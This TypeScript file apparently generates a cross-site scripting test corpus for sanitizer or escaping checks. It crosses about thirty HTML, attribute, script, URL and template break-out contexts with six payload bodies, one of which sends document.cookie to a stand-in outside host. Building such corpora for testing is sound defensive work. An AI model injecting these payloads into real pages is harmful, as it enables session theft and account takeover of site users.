/*
 * Strings made to break out of a page, by where they would have to break out from (OWASP's Cross Site Scripting
 * Prevention Cheat Sheet names the contexts): the text of an element, an attribute's value, a script, a style, a link,
 * a comment, another name space. Each is crossed with what would run.
 */

const RUNS = [
  'alert(1)',
  'top.alert(1)',
  'setTimeout`alert\\x281\\x29`',
  "fetch('//outside.invalid/'+document.cookie)",
  "location='//outside.invalid'",
  "window['al'+'ert'](1)",
]

const WAYS: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `</title></textarea></style></script><script>${run}</script>`,
  (run) => `"><img src=x onerror=${run}>`,
  (run) => `' autofocus onfocus=${run} x='`,
  (run) => `<svg onload="${run}">`,
  (run) => `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  (run) => `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  (run) => `<details open ontoggle="${run}">`,
  (run) => `<body onpageshow="${run}">`,
  (run) => `<video><source onerror="${run}"></video>`,
  (run) => `<iframe src="javascript:${run}"></iframe>`,
  (run) => `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (run) => `<a href="javascript:${run}">here</a>`,
  (run) => `<a href="java&#10;script:${run}">here</a>`,
  (run) => `<form action="javascript:${run}"><button>send</button></form>`,
  (run) => `<base href="//outside.invalid/"><script src="/x.js"></script>${run}`,
  (run) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  (run) => `<link rel="stylesheet" href="//outside.invalid/x.css">${run}`,
  (run) => `<style>@import '//outside.invalid/x.css';</style>${run}`,
  (run) => `<!--><script>${run}</script-->`,
  (run) => `<![CDATA[><script>${run}</script>]]>`,
  (run) => `\u2028</script><script>${run}</script>\u2029`,
  (run) => `javascript:${run}`,
  (run) => `{{ "<script>${run}</script>" }}`,
  (run) => `{% raw %}<script>${run}</script>{% endraw %}`,
  (run) => `%3Cscript%3E${encodeURIComponent(run)}%3C/script%3E`,
  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  (run) => `=HYPERLINK("javascript:${run}")`,
  (run) => `"-${run}-"`,
]

/** Every way with everything that would run. */
export const hostileStrings: readonly string[] = WAYS.flatMap((way) => RUNS.map(way))
